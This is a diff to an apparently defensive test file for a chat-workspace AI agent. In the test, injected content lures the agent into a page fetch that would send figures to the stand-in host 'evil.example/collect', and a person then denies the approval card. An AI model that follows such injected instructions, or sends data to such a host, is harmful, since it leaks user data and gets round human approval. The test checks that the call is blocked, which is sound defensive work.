@@ -255,11 +255,19 @@ async def test_what_somebody_else_said_sends_no_tool_anywhere(scene: Scene) -> N
         researcher=in_turn(lured, result("Nothing was opened.")),
     ):
         await talk.say("@leadhand look up the usual opening times of clinics")
+        card = await talk.seen(
+            lambda: next((one for one in talk.words() if "to send something out" in shown(one)), None)
+        )
+        assert "evil.example/collect?figures=41,58,39" in shown(card)
+        ana = scene.person("ana")
+        await ana.click(talk.channel, card["ts"], "approval:deny")
+        (view,) = await scene.workspace.until(ana.views)
+        await ana.submit(view["id"], {"text": ""})
         await talk.over()
 
     (returned,) = [event for event in await talk.of(ev.ToolReturned) if event.reply.call_id == "call_fetch_page"]
     assert returned.reply.failed
-    assert "was not run" in returned.reply.text
+    assert "was not run: a person denied it" in returned.reply.text
 
 
 @pytest.mark.parametrize("needs", [[], ["scan.pdf"]])
